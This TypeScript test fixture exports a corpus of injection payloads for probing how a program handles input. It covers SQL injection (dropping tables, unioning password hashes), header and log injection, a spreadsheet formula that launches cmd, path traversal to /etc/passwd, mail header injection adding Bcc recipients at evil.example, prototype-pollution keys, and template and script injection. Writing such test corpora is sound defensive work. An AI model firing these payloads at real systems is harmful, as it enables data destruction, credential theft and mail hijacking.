import { tmpdir } from "node:os";
import { join } from "node:path";

/** Marks an effect: a row, header, log line, file, recipient, or property with this text was injected. */
export const MARK = "injected5f1d";

/** Texts that take effect where a program mixes them into SQL, headers, logs, formulas, paths, emails, or objects. */
export const CORPUS: Readonly<Record<string, readonly string[]>> = {
  sql: [
    "'; drop table people; --",
    "' or '1'='1",
    '" or 1=1 --',
    "') ; delete from members where ('1'='1",
    "1; update members set role = 'viewer'",
    "\\'; select pg_sleep(9); --",
    "x' union select password_hash from members --",
    "%' escape '!' or 1=1 --",
    "_%",
    "$1",
    "?",
  ],
  headers: [
    `x\r\nX-${MARK}: 1`,
    `x\nSet-Cookie: ${MARK}=1`,
    `x%0d%0aX-${MARK}:%201`,
    `\u560d\u560aX-${MARK}: 1`,
    `x\u2028X-${MARK}: 1`,
  ],
  logs: [
    `x\n{"at":"2026-01-01T00:00:00.000Z","level":"error","event":"${MARK}"}`,
    `x"},{"event":"${MARK}"`,
    `\u001b[2J\u001b]0;${MARK}\u0007`,
    "%s%n%x%d",
  ],
  formulas: [
    `=HYPERLINK("http://${MARK}.example","x")`,
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "x;=cmd|'/C calc'!A0",
    "\uFF1D1+1",
  ],
  paths: [
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\..\\windows\\win.ini",
    `../${MARK}`,
    join(tmpdir(), MARK),
    "file:///etc/passwd",
    "a\u0000.txt",
    ".",
    "..",
  ],
  mail: [
    `x@x.test\r\nBcc: ${MARK}@evil.example`,
    `Ada\r\nBcc: ${MARK}@evil.example\r\n\r\nHello`,
    `"Ada" <${MARK}@evil.example>`,
    `ada@x.test, ${MARK}@evil.example`,
    `${MARK}@evil.example>\r\nRCPT TO:<x@x.test`,
  ],
  keys: ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then"],
  texts: [
    "",
    " ",
    "\u0000",
    "\uD800",
    "\u202Ex",
    "null",
    "NaN",
    `{{constructor.constructor("globalThis.${MARK}=1")()}}`,
    `<script>globalThis.${MARK}=1</script>`,
    "x".repeat(70_000),
    "🎉".repeat(300),
  ],
};
